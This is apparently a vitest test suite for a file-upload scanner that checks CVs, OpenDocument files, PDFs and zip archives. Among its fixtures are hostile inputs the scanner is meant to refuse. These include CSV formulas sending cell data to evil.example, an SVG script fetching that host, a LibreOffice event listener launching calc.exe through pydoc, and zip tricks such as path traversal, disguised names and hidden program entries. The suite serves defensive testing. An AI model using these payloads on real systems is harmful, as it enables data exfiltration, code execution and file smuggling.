import { describe, expect, it } from 'vitest';
import { buildPdf } from '../../../../test/fixtures/files/build-pdf.js';
import { buildZip, type ZipInput } from '../../../../test/fixtures/files/build-zip.js';
import { encodeLegacy } from '../../../../test/fixtures/files/encode-legacy.js';
import { samples } from '../../../../test/fixtures/files/samples.js';
import { parseScanPolicy, type ScanPolicy } from '../scan-policy.js';
import { createBuiltinScanner } from './builtin-scanner.js';
import { bytesSubject } from './bytes-subject.js';
import { decodeText } from './decode-text.js';

const scan = async (name: string, bytes: Uint8Array, policy?: ScanPolicy) => {
  const engine = createBuiltinScanner(policy === undefined ? {} : { policy });
  const result = await engine.scan(bytesSubject(name, bytes));
  return {
    ...result,
    rules: result.findings.map((f) => f.rule),
    details: result.findings.map((f) => f.detail),
  };
};

// CVs as people write them, each in an encoding that is still common where it is used.
const LEGACY: readonly [string, string][] = [
  ['windows-1252', 'Résumé — José Müller, Zürich. Compétences : gestion de projet, français, allemand.'],
  ['iso-8859-2', 'Životopis: Paweł Łukasiewicz, Kraków. Doświadczenie zawodowe i umiejętności.'],
  ['shift_jis', '職務経歴書　山田太郎。営業として十年の経験があります。'],
  ['euc-jp', '職務経歴書　山田太郎。営業として十年の経験があります。'],
  ['iso-2022-jp', '職務経歴書　山田太郎。営業として十年の経験があります。'],
  ['gbk', '个人简历：张伟。我在北京的公司工作了十年，负责市场和销售。'],
  ['big5', '個人簡歷：陳大文。我在台北的公司工作了十年，負責市場和銷售。'],
  ['euc-kr', '이력서: 김민수. 서울에서 십 년 동안 영업을 담당했습니다.'],
  ['windows-1251', 'Резюме: Иван Петров. Опыт работы в продажах десять лет.'],
  ['koi8-r', 'Резюме: Иван Петров. Опыт работы в продажах десять лет.'],
];

describe('text in every common encoding', () => {
  it.each(LEGACY)('accepts a %s text file', async (encoding, text) => {
    const r = await scan(
      'cv.txt',
      Buffer.concat([encodeLegacy(text, encoding), Buffer.from('\r\nExperience: 10 years\r\n')]),
    );
    expect(r.findings).toEqual([]);
    expect(r.detectedType).toBe('text/plain');
  });

  it.each(LEGACY)('decodes %s as the text it is', (encoding, text) => {
    expect(decodeText(encodeLegacy(text, encoding))?.text).toBe(text);
  });

  it('accepts ISO-2022-KR, which shifts with SO and SI, and nothing else with those controls', async () => {
    const korean = Buffer.from('\x1b$)C\nResume: \x0e\x40\x4c\x37\x42\x3c\x2d\x0f Kim\n', 'latin1');
    expect((await scan('cv.txt', korean)).kind).toBe('clean');
    expect((await scan('cv.txt', Buffer.from('Resume: \x0e\x40\x4c\x0f Kim\n', 'latin1'))).kind).toBe(
      'rejected',
    );
  });

  it('accepts a long CSV whose first pages are ASCII and a later row is in Windows-1252', async () => {
    const rows = Array.from({ length: 5000 }, (_, i) => `${i},Tanaka,Sales,2020`).join('\r\n');
    const csv = Buffer.concat([
      Buffer.from(`id,name,dept,year\r\n${rows}\r\n`),
      Buffer.from('5001,Jos\xe9,R&D,2021\r\n', 'latin1'),
    ]);
    const r = await scan('staff.csv', csv);
    expect(r.kind).toBe('clean');
  });

  it('still refuses binary appended after a legacy-encoded head', async () => {
    const head = encodeLegacy('職務経歴書。営業の経験があります。\n'.repeat(4000), 'euc-jp');
    const r = await scan('cv.txt', Buffer.concat([head, samples.pe]));
    expect(r.rules).toEqual(['text-binary-content']);
  });

  it.each([
    ['a uuencoded program', 'begin 644 setup.exe\nM35J0``,````$````__\\``+@`````````0`\n`\nend\n'],
    [
      'a base64 program in a mail',
      'Content-Transfer-Encoding: base64\n\nTVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n',
    ],
    [
      'a BinHex file',
      '(This file must be converted with BinHex 4.0)\n:$f*TEQKPH#jdCA0d,R0TG!"6594%8dP8)3#3"!\n',
    ],
  ])('refuses %s named .txt', async (_what, text) => {
    expect((await scan('notes.txt', Buffer.from(text))).rules).toEqual(['text-encoded-program']);
  });

  it.each([
    ['=WEBSERVICE("http://evil.example/?"&A1)', 'WEBSERVICE'],
    ['=HYPERLINK("http://evil.example/?"&A2,"click")', 'HYPERLINK'],
    ['@IMPORTXML("http://evil.example","//a")', 'IMPORTXML'],
  ])('refuses a CSV cell %s', async (formula, fn) => {
    const r = await scan('list.csv', Buffer.from(`name,note\r\nTanaka,ok\r\nSato,${formula}\r\n`));
    expect(r.rules).toEqual(['csv-formula-network']);
    expect(r.details[0]).toContain(fn);
  });

  it('accepts the word hyperlink and a plain formula in a CSV', async () => {
    const r = await scan(
      'list.csv',
      Buffer.from('name,note\r\nTanaka,see the hyperlink below\r\nSato,=SUM(A1:A3)\r\n'),
    );
    expect(r.kind).toBe('clean');
  });
});

describe('names that tell the truth', () => {
  it.each(['thesis.tex', 'macros.sty', 'refs.bib', 'README', 'notes.md', 'data.json', 'cv.rst'])(
    'accepts text named %s',
    async (name) => {
      expect((await scan(name, samples.text)).kind).toBe('clean');
    },
  );

  it.each(['notes.js', 'run.vbs', 'setup.bat', 'x.ps1', 'page.hta', 'tool.py'])(
    'refuses text named %s, which runs when opened',
    async (name) => {
      expect((await scan(name, samples.text)).rules).toEqual(['runnable-name']);
    },
  );

  it('says the type is not recognised, not that the name lies, for unknown binary named .txt', async () => {
    const r = await scan('notes.txt', Buffer.from([0, 1, 2, 3, 0xff, 0xfe, 0, 0, 9, 8, 7]));
    expect(r.rules).toEqual(['type-not-allowed']);
    expect(r.details[0]).toContain('not a format the engine recognises');
  });

  it('names the type of a refused program in words', async () => {
    const r = await scan('setup', samples.pe);
    expect(r.details[0]).toContain('Windows program');
  });

  it('refuses an empty upload as empty', async () => {
    const r = await scan('cv.pdf', new Uint8Array());
    expect(r.findings.map((f) => [f.rule, f.detail])).toEqual([['empty-file', 'The file is empty.']]);
  });
});

const MANIFEST =
  '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>';
const content = (body: string) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts/><office:body><office:text>${body}</office:text></office:body></office:document-content>`;
const odf = (mime: string, extra: ZipInput[] = [], body = '<text:p>Curriculum vitae</text:p>') =>
  buildZip([
    { name: 'mimetype', data: mime, method: 0 },
    { name: 'content.xml', data: content(body) },
    { name: 'styles.xml', data: '<?xml version="1.0"?><office:document-styles/>' },
    { name: 'Thumbnails/thumbnail.png', data: samples.png },
    { name: 'META-INF/manifest.xml', data: MANIFEST },
    ...extra,
  ]);

describe('OpenDocument', () => {
  it.each([
    ['cv.odt', 'application/vnd.oasis.opendocument.text'],
    ['budget.ods', 'application/vnd.oasis.opendocument.spreadsheet'],
    ['talk.odp', 'application/vnd.oasis.opendocument.presentation'],
    ['letter.ott', 'application/vnd.oasis.opendocument.text-template'],
  ])('accepts %s and detects its type from the mimetype entry', async (name, mime) => {
    const r = await scan(name, odf(mime));
    expect(r.findings).toEqual([]);
    expect(r.detectedType).toBe(mime);
  });

  it('accepts an embedded chart (a sub-document)', async () => {
    const chart = [{ name: 'Object 1/content.xml', data: content('') }];
    expect((await scan('cv.odt', odf('application/vnd.oasis.opendocument.text', chart))).kind).toBe('clean');
  });

  it.each([
    ['Basic macros', [{ name: 'Basic/Standard/Module1.xml', data: '<script:module/>' }], ''],
    ['a Python script', [{ name: 'Scripts/python/run.py', data: 'import os' }], ''],
    [
      'an event listener',
      [],
      '<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic"/>',
    ],
  ])('refuses a document with %s', async (_what, extra, body) => {
    const r = await scan('cv.odt', odf('application/vnd.oasis.opendocument.text', extra, body || undefined));
    expect(r.rules).toContain('office-macros');
  });

  it.each([
    [
      'single quotes',
      "<script:event-listener script:language='ooo:script' script:event-name='dom:load' xlink:href='vnd.sun.star.script:Standard.Module1.Main?language=Basic'/>",
    ],
    [
      'prefixes of its own',
      '<s:event-listener xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:l="http://www.w3.org/1999/xlink" s:language="ooo:script" s:event-name="dom:load" l:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic"/>',
    ],
    [
      'an embedded script under another prefix',
      '<o:script xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" s:language="ooo:Basic">Sub Main</o:script>',
    ],
  ])(
    'refuses an event listener or script written with %s, as LibreOffice reads them',
    async (_what, body) => {
      const r = await scan('cv.odt', odf('application/vnd.oasis.opendocument.text', [], body));
      expect(r.rules).toEqual(['office-macros']);
    },
  );

  it("accepts a wizard template whose event listener runs one of LibreOffice's own macros", async () => {
    const listener =
      '<office:event-listeners><script:event-listener script:language="ooo:StarBasic" script:event-name="office:new" script:macro-name="application:Template.Correspondence.Main"/></office:event-listeners>';
    const r = await scan('fax.ott', odf('application/vnd.oasis.opendocument.text-template', [], listener));
    expect(r.findings).toEqual([]);
  });

  it('accepts event listeners with empty addresses, which run nothing', async () => {
    const body =
      '<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href=""/>';
    expect(
      (await scan('letter.ott', odf('application/vnd.oasis.opendocument.text-template', [], body))).kind,
    ).toBe('clean');
  });

  it.each([
    ['a macro of the document', 'script:macro-name="document:Standard.Module1.Main"'],
    [
      'a Python script reached by path',
      'xlink:href="vnd.sun.star.script:../../program/python-core/lib/pydoc.py$tempfilepager(1, calc.exe)?language=Python&amp;location=share"',
    ],
  ])('refuses an event listener that runs %s', async (_what, address) => {
    const body = `<script:event-listener script:language="ooo:script" script:event-name="dom:mouseover" ${address}/>`;
    const r = await scan('cv.odt', odf('application/vnd.oasis.opendocument.text', [], body));
    expect(r.rules).toContain('office-macros');
  });

  it('accepts a section that names another section of the same document', async () => {
    const body =
      '<text:section text:name="A"><text:section-source text:section-name="MasterLabel"/></text:section>';
    expect(
      (await scan('card.ott', odf('application/vnd.oasis.opendocument.text-template', [], body))).kind,
    ).toBe('clean');
  });

  it('refuses a document that carries a program', async () => {
    const r = await scan(
      'cv.odt',
      odf('application/vnd.oasis.opendocument.text', [{ name: 'Object 2', data: samples.pe }]),
    );
    expect(r.rules).toContain('executable');
  });

  it.each([
    ['burning_desire.otp', 'application/vnd.oasis.opendocument.presentation'],
    ['Presentation.odp', 'application/vnd.oasis.opendocument.presentation-template'],
  ])(
    "accepts Calligra's %s, a template and a document of one format under each other's name",
    async (name, mime) => {
      const r = await scan(name, odf(mime));
      expect(r.findings).toEqual([]);
      expect(r.detectedType).toBe(mime);
    },
  );

  it('still names an OpenDocument spreadsheet sent as a text document', async () => {
    const r = await scan('cv.odt', odf('application/vnd.oasis.opendocument.spreadsheet'));
    expect(r.details).toEqual([
      'The name ends in .odt but the content is an opendocument spreadsheet (application/vnd.oasis.opendocument.spreadsheet).',
    ]);
  });

  it('reads the pre-standard drawing type a StarOffice 8 beta wrote as an OpenDocument drawing', async () => {
    // The LibreOffice SDK's importexportofasciifiles.odg declares opendocument.drawing.
    const r = await scan('plan.odg', odf('application/vnd.oasis.opendocument.drawing'));
    expect(r.findings).toEqual([]);
    expect(r.detectedType).toBe('application/vnd.oasis.opendocument.graphics');
  });

  it('names an OpenOffice.org 1.x document as the type it is, and finds its Basic library', async () => {
    // The layout of libreoffice-smoketest-data's smoketestdoc.sxw: each XML part used to be
    // refused as "XML files are not accepted".
    const plain = await scan('old.sxw', odf('application/vnd.sun.xml.writer'));
    expect(plain.rules).toEqual(['type-not-allowed']);
    expect(plain.details[0]).toContain('OpenOffice.org 1.x text document (application/vnd.sun.xml.writer)');
    const basic = [{ name: 'Basic/Standard/Module1.xml', data: '<script:module/>' }];
    const withBasic = await scan('old.sxw', odf('application/vnd.sun.xml.writer', basic));
    expect(withBasic.rules).toEqual(['office-macros']);
  });

  // LibreOffice's hybrid PDF: the editable document rides in the PDF as a stream the trailer
  // lists, and LibreOffice opens that document instead of the PDF.
  const hybrid = (doc: Buffer) =>
    buildPdf({
      objects: [{ dict: '', data: doc }],
      trailerExtra: '/AdditionalStreams [/application#2Fvnd#2Eoasis#2Eopendocument#2Etext 7 0 R]',
    });

  it('refuses a hybrid PDF whose LibreOffice document carries Basic macros', async () => {
    const basic = [{ name: 'Basic/Standard/Module1.xml', data: '<script:module/>' }];
    const r = await scan('cv.pdf', hybrid(odf('application/vnd.oasis.opendocument.text', basic)));
    expect(r.rules).toEqual(['pdf-embedded-file']);
    expect(r.details[0]).toContain('LibreOffice Basic macros');
  });

  it('accepts a hybrid PDF whose document is ordinary, also where only PDFs are accepted', async () => {
    const pdf = hybrid(odf('application/vnd.oasis.opendocument.text'));
    expect((await scan('cv.pdf', pdf)).kind).toBe('clean');
    const parsed = parseScanPolicy({ accept: ['application/pdf'] });
    if (!('policy' in parsed)) throw new Error(parsed.problems.join());
    expect((await scan('cv.pdf', pdf, parsed.policy)).kind).toBe('clean');
  });

  it('refuses a script past the first 64 KB of an SVG or HTML file that the policy accepts', async () => {
    const parsed = parseScanPolicy({ accept: ['default', 'image/svg+xml', 'text/html'] });
    if (!('policy' in parsed)) throw new Error(parsed.problems.join());
    const filler = `<!-- ${'a'.repeat(70 * 1024)} -->\n`;
    const svg = (tail: string) => `<svg xmlns="http://www.w3.org/2000/svg">\n${filler}${tail}</svg>\n`;
    const html = (tail: string) => `<!doctype html><html><body><p>CV</p>\n${filler}${tail}</body></html>`;
    expect((await scan('logo.svg', Buffer.from(svg('<circle r="4"/>')), parsed.policy)).kind).toBe('clean');
    expect((await scan('cv.html', Buffer.from(html('<p>Referees</p>')), parsed.policy)).kind).toBe('clean');
    expect(
      (
        await scan(
          'logo.svg',
          Buffer.from(svg("<script>fetch('https://evil.example/')</script>")),
          parsed.policy,
        )
      ).rules,
    ).toEqual(['svg-script']);
    expect(
      (await scan('cv.html', Buffer.from(html('<img src=x onerror="location=1">')), parsed.policy)).rules,
    ).toEqual(['html-script']);
  });

  it('is refused by a policy that accepts only PDF', async () => {
    const parsed = parseScanPolicy({ accept: ['application/pdf'] });
    if (!('policy' in parsed)) throw new Error(parsed.problems.join());
    const r = await scan('cv.odt', odf('application/vnd.oasis.opendocument.text'), parsed.policy);
    expect(r.rules).toEqual(['type-not-allowed']);
    expect(r.details[0]).toContain('OpenDocument text');
    expect((await scan('cv.pdf', buildPdf(), parsed.policy)).kind).toBe('clean');
  });
});

describe('zips judged as extractors see them', () => {
  it('accepts empty entries and TeX sources with their own extensions', async () => {
    const zip = buildZip([
      { name: 'thesis/.keep', data: '' },
      { name: 'thesis/main.tex', data: '\\documentclass{article}\n\\begin{document}Hi\\end{document}\n' },
      { name: 'thesis/style.sty', data: '\\ProvidesPackage{style}\n' },
      { name: 'thesis/cv.pdf', data: buildPdf() },
    ]);
    const r = await scan('thesis.zip', zip);
    expect(r.findings).toEqual([]);
  });

  it('refuses an entry whose local header names another file than the directory', async () => {
    const zip = buildZip([{ name: 'cv.pdf', localName: 'cv.exe', data: buildPdf() }]);
    expect((await scan('a.zip', zip)).rules).toEqual(['zip-inconsistent']);
  });

  it('refuses two entries with one name', async () => {
    const zip = buildZip([
      { name: 'cv.pdf', data: buildPdf() },
      { name: 'CV.pdf', data: buildPdf() },
    ]);
    expect((await scan('a.zip', zip)).rules).toEqual(['zip-duplicate-name']);
  });

  it('refuses an entry hidden between entries, which only a streaming extractor sees', async () => {
    const hidden = buildZip([{ name: 'setup.exe', data: samples.pe }]);
    const local = hidden.subarray(0, hidden.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])));
    const zip = buildZip([
      { name: 'cv.pdf', data: buildPdf() },
      { name: 'photo.png', data: samples.png, prefix: local },
    ]);
    expect((await scan('a.zip', zip)).rules).toEqual(['zip-inconsistent']);
  });

  // A local header for a program, to hide where extractors that read the archive differently
  // from the engine would find it.
  const hiddenProgram = () => {
    const zip = buildZip([{ name: 'setup.exe', data: samples.pe, method: 0 }]);
    return zip.subarray(0, zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])));
  };

  it('refuses a directory with more records than its end record counts, which some extractors list', async () => {
    // Python's zipfile and `unzip -l` walk the directory to its size and see the third entry.
    const entries = [
      { name: 'cv.pdf', data: buildPdf() },
      { name: 'photo.png', data: samples.png },
      { name: '../setup.exe', data: samples.pe },
    ];
    expect((await scan('a.zip', buildZip(entries))).rules).toEqual(['zip-path-traversal']);
    const r = await scan('a.zip', buildZip(entries, { declaredCount: 2 }));
    expect(r.rules).toEqual(['zip-inconsistent']);
    expect(r.details[0]).toContain('past the 2 entries its end record counts');
  });

  it('refuses a local header whose sizes differ from the directory, and a folder entry that holds data', async () => {
    // The folder's local header says 0 bytes, the directory says the program's: a streaming
    // extractor reads the program as the next entry.
    const program = hiddenProgram();
    const zip = buildZip([
      { name: 'docs/', data: '', method: 0, declaredCompressedSize: program.length },
      { name: 'cv.pdf', data: buildPdf(), prefix: program },
    ]);
    const r = await scan('a.zip', zip);
    expect(r.rules).toEqual(['zip-inconsistent']);
    expect(r.details[0]).toContain('the local header of "docs/" gives another compressed size');
    // Both headers agree that the folder holds the program, declared as 0 bytes once unpacked:
    // the engine skipped it as an empty folder.
    const folder = buildZip([
      { name: 'docs/', data: samples.pe, method: 0, declaredSize: 0 },
      { name: 'cv.pdf', data: buildPdf() },
    ]);
    expect((await scan('a.zip', folder)).details[0]).toContain(
      `the folder entry "docs/" holds ${samples.pe.length} bytes of data`,
    );
  });

  it('reads a data descriptor to its length, so a local header just after it is still found', async () => {
    const signed = { name: 'cv.txt', data: 'Curriculum vitae\nTaro Yamada\n', descriptor: true };
    expect((await scan('a.zip', buildZip([signed, { name: 'b.txt', data: 'references\n' }]))).kind).toBe(
      'clean',
    );
    const zip = buildZip([signed, { name: 'b.txt', data: 'references\n', prefix: hiddenProgram() }]);
    expect((await scan('a.zip', zip)).details).toEqual([
      'The archive is inconsistent: it holds an entry that its directory does not list. Extractors would disagree about what it holds.',
    ]);
  });

  it('checks the names of folder entries too', async () => {
    for (const [name, rule] of [
      ['../../outside/', 'zip-path-traversal'],
      ['ok\u202Eexe./', 'zip-disguised-name'],
    ]) {
      const zip = buildZip([
        { name: name as string, data: '', method: 0 },
        { name: 'cv.txt', data: 'Curriculum vitae\n' },
      ]);
      expect((await scan('a.zip', zip)).rules).toEqual([rule]);
    }
  });

  it('reports the configured entry limit, not what is left of it', async () => {
    const many = Array.from({ length: 6 }, (_, i) => ({ name: `f${i}.txt`, data: 'x' }));
    const outer = buildZip([
      { name: 'a.zip', data: buildZip(many) },
      { name: 'b.zip', data: buildZip(many) },
    ]);
    const r = await createBuiltinScanner({ maxEntries: 10 }).scan(bytesSubject('x.zip', outer));
    expect(r.findings.map((f) => f.detail).join(' ')).toContain('10 entries, the limit');
  });
});
